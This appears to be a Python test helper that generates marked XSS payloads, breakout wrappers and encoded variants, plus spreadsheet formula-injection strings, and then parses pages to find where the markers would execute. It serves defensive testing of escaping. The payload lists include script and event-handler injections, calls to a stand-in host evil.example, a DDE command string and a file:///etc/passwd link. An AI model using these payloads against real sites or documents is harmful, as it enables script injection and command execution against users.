"""Texts that would run in a page, a chart or a file if one place forgot to take them for text.

Each carries a marker of its own. `live` looks for markers where a browser would act on them: everywhere but
in text, in attributes that are only read, and in links to other sites.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser
from itertools import islice, product
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Iterator

MARKER = re.compile(r"zxss\d{3}x")
# What runs, with M for the marker.
SCRIPTS = (
    "<script>alert('M')</script>",
    "<script src=//evil.example/M.js></script>",
    "<img src=x onerror=alert('M')>",
    "<svg onload=alert('M')>",
    "<svg><script>alert('M')</script></svg>",
    "<svg><a xlink:href=\"javascript:alert('M')\"><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=alert('M')></style></mtext></math>",
    "<body onload=alert('M')>",
    "<iframe src=\"javascript:alert('M')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('M')</script>\"></iframe>",
    "<object data=\"javascript:alert('M')\"></object>",
    '<embed src="data:text/html,M">',
    "<link rel=stylesheet href=//evil.example/M.css>",
    "<style>*{background:url(//evil.example/M)}</style>",
    "<base href=//evil.example/M/>",
    '<meta http-equiv=refresh content="0;url=//evil.example/M">',
    "<form action=//evil.example/M><button>go</button></form>",
    "<input autofocus onfocus=alert('M')>",
    "<details open ontoggle=alert('M')>",
    "<a href=\"javascript:alert('M')\">x</a>",
    "<a href=\" java\tscript:alert('M')\">x</a>",
    '<a href="data:text/html;base64,M">x</a>',
    "<video><source onerror=alert('M')></video>",
    "<p style=\"background:url(javascript:alert('M'))\">x</p>",
    "<template><script>alert('M')</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('M')>\"></noscript>",
    "<!--><script>alert('M')</script-->",
    "<![CDATA[<script>alert('M')</script>]]>",
    "<x onclick=alert('M') tabindex=1>x</x>",
    "<img src=//evil.example/M.png>",
    "[x](javascript:alert('M'))",
    "[x](JaVaScRiPt:alert%28'M'%29)",
    "[x](&#106;avascript:alert('M'))",
    "[x](data:text/html;base64,M)",
    "[x](vbscript:M)",
    "[x](//evil.example/M)",
    "[x](file:///etc/M)",
    "![x](//evil.example/M.png)",
    "![x](javascript:alert('M'))",
    '[x](https://x.example "M\\" onmouseover=alert(1) x=\\"")',
    "[x]: javascript:alert('M')\n[x]",
    "<javascript:alert('M')>",
    "<https://x.example/\"onmouseover=alert('M')>",
    "# <script>alert('M')</script>",
    "```\n<script>alert('M')</script>\n```",
    "{{ M }}{% debug %}",
    "${alert('M')}",
    "javascript:alert('M')",
    "<a href='http://evil.example/M' onclick=alert('M')>x</a>",
    "<b>x</b><sub>M</sub><br onload=alert('M')>",
)
# What may stand before and after, to break out of where it is put.
WRAPS = (
    ("", ""),
    ('"', '"'),
    ('">', ""),
    ("'>", "<p x='"),
    ("</textarea>", ""),
    ("</title></style></script>", ""),
    ("-->", "<!--"),
    ("</option></select>", ""),
)


def _changed(text: str, turn: int) -> str:
    """The same text as it is, in other letters, or with its marks written in another way."""
    if turn % 6 == 3:
        return html.escape(text)
    if turn % 6 == 4:
        return quote(text)
    if turn % 6 == 5:
        return text.replace("script", "ScRiPt").replace("on", "oN", 1)
    return text


def _all() -> Iterator[str]:
    turns = product(enumerate(WRAPS), SCRIPTS)
    for number, ((wrap, (before, after)), script) in enumerate(turns):
        marked = _changed(script, wrap).replace("M", f"zxss{number:03d}x")
        yield f"{before}{marked}{after}"


def payloads(count: int = 300) -> list[str]:
    """So many different texts, the same at every call; 400 at most."""
    return list(islice(_all(), count))


# What a spreadsheet would take for a formula: its beginnings, what may stand before them, and what follows.
STARTS = (
    *("=", "+", "-", "@", "\t=", "\r\n=", " =", "  @", "\u00a0=", "\u200b=", "\ufeff+", "\x00=", "\x08="),
    *("＝", "＋", "－", "＠", "{=", "_x003D_", ""),
)
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("https://x.example","y")', "IMPORTXML(A1)", "SUM(1)}"),
    *("http://x.example/", "mailto:x@y.example", "internal:Sheet1!A1", "file:///etc/passwd", "<b>&amp;</b>"),
)


def formulas() -> list[str]:
    """Two hundred texts that a spreadsheet would run or follow."""
    return [start + body for start in STARTS for body in BODIES]


READ_ONLY = {"value", "aria-label", "title", "alt", "placeholder", "content", "summary", "label", "download"}


class _Live(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.inside = ""
        self.refresh = False

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attributes}
        self.inside = tag if tag in {"script", "style"} and "json" not in given.get("type", "") else ""
        for name, value in given.items():
            marked = MARKER.search(f"{name} {value}")
            if marked and not self._inert(tag, name, value, given):
                self.found.append(f"<{tag} {name}={value[:80]!r}>")
        if MARKER.search(tag):
            self.found.append(f"<{tag}>")

    def handle_endtag(self, tag: str) -> None:
        self.inside = ""

    def handle_data(self, data: str) -> None:
        if self.inside and MARKER.search(data):
            self.found.append(f"<{self.inside}>{data[:80]!r}")

    def handle_comment(self, data: str) -> None:
        if MARKER.search(data):
            self.found.append(f"<!--{data[:80]!r}")

    def unknown_decl(self, data: str) -> None:
        self.handle_comment(data)

    def handle_pi(self, data: str) -> None:
        self.handle_comment(data)

    @staticmethod
    def _inert(tag: str, name: str, value: str, given: dict[str, str]) -> bool:
        if MARKER.search(name) or (tag == "meta" and "http-equiv" in given):
            return False
        if name in READ_ONLY or name.startswith("data-"):
            return True
        return (tag, name) == ("a", "href") and value.startswith(("http://", "https://"))


def live(page: str) -> list[str]:
    """Where markers stand that a browser would act on."""
    parser = _Live()
    parser.feed(page)
    parser.close()
    return parser.found + list(_within_tags(page))


def _within_tags(page: str) -> Iterator[str]:
    """Markers inside a tag as it was written: parsers differ over where an attribute ends."""
    for match in MARKER.finditer(page):
        begin = max(page.rfind("<", 0, match.start()), page.rfind(">", 0, match.start()))
        written = page[begin : match.start()] if begin >= 0 else ""
        attribute = re.search(r'([\w:-]+)="[^"]*$', written)
        name = attribute[1] if attribute else ""
        if written.startswith("<") and not (name in READ_ONLY | {"href"} or name.startswith("data-")):
            yield f"{written[:80]}{match[0]}"


def shown(page: str) -> set[str]:
    """The markers that stand in a page at all, live or not."""
    return set(MARKER.findall(page))
